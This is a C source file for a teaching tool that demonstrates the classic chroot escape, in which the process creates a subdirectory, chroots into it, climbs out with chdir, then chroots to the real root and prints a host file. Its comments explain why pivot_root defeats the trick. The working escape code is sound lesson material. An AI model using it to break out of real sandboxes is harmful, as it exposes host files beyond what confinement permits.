/*
 * chroot-escape: the classic way out of a chroot, for the chroot-and-pivot-root lesson.
 *
 *   usage: chroot-escape [--hold] FILE
 *
 * chroot() changes only which directory a process calls "/". It does not move the working
 * directory, and ".." is stopped only at the process's root. So a process that may call chroot
 * (root, CAP_SYS_CHROOT) gets out like this:
 *   1. mkdir("sbx-escape"); chroot("sbx-escape"): the root moves one level *below* the working
 *      directory, which is now outside the root;
 *   2. chdir("..") over and over: nothing stops the climb until the real root of the mount
 *      namespace, where ".." is "." again;
 *   3. chroot("."): that real root becomes the process's root.
 * Then it reads FILE (a path on the host) and prints it.
 *
 * After pivot_root with the old root detached, the same program climbs only to the root of the
 * mount namespace, which *is* the new root: the host's files are not mounted anywhere, so there
 * is nothing to climb to and FILE is not found.
 *
 * With --hold it then stays alive (until killed), so that its root can be inspected from the host
 * at /proc/PID/root. Built static: it runs inside a root filesystem with no libraries.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define CLIMB 64

static void list_root(void) {
  DIR *d = opendir("/");
  if (!d) return;
  char line[512];
  size_t len = 0;
  struct dirent *e;
  int n = 0;
  line[0] = 0;
  while ((e = readdir(d)) != NULL) {
    if (e->d_name[0] == '.') continue;
    size_t l = strlen(e->d_name);
    if (len + l + 2 >= sizeof line - 8) {
      strcpy(line + len, " …");
      break;
    }
    len += (size_t)snprintf(line + len, sizeof line - len, "%s%s", n++ ? " " : "", e->d_name);
  }
  closedir(d);
  printf("chroot-escape: \"/\" now holds: %s\n", line);
}

int main(int argc, char **argv) {
  int hold = 0;
  int i = 1;
  if (i < argc && strcmp(argv[i], "--hold") == 0) {
    hold = 1;
    i++;
  }
  if (i + 1 != argc) {
    fprintf(stderr, "usage: chroot-escape [--hold] FILE\n");
    return 2;
  }
  const char *file = argv[i];
  setvbuf(stdout, NULL, _IOLBF, 0);

  if (mkdir("sbx-escape", 0755) != 0 && errno != EEXIST) {
    printf("chroot-escape: mkdir(\"sbx-escape\"): %s\n", strerror(errno));
    return 2;
  }
  if (chroot("sbx-escape") != 0) {
    printf("chroot-escape: chroot(\"sbx-escape\"): %s (needs CAP_SYS_CHROOT)\n", strerror(errno));
    return 2;
  }
  printf("chroot-escape: mkdir(\"sbx-escape\"); chroot(\"sbx-escape\") = 0: the working directory is now outside the root\n");
  for (int k = 0; k < CLIMB; k++) {
    if (chdir("..") != 0) break;
  }
  if (chroot(".") != 0) {
    printf("chroot-escape: chroot(\".\"): %s\n", strerror(errno));
    return 2;
  }
  printf("chroot-escape: chdir(\"..\") x %d; chroot(\".\") = 0\n", CLIMB);
  list_root();

  int rc;
  int fd = open(file, O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    printf("chroot-escape: open(\"%s\"): %s: still inside, the host's files are out of reach\n", file, strerror(errno));
    rc = 1;
  } else {
    char buf[256];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    buf[n > 0 ? n : 0] = 0;
    char *nl = strchr(buf, '\n');
    if (nl) *nl = 0;
    printf("chroot-escape: read %s: %s\n", file, buf);
    rc = 0;
  }
  if (hold) {
    fflush(stdout);
    for (;;) pause();
  }
  return rc;
}
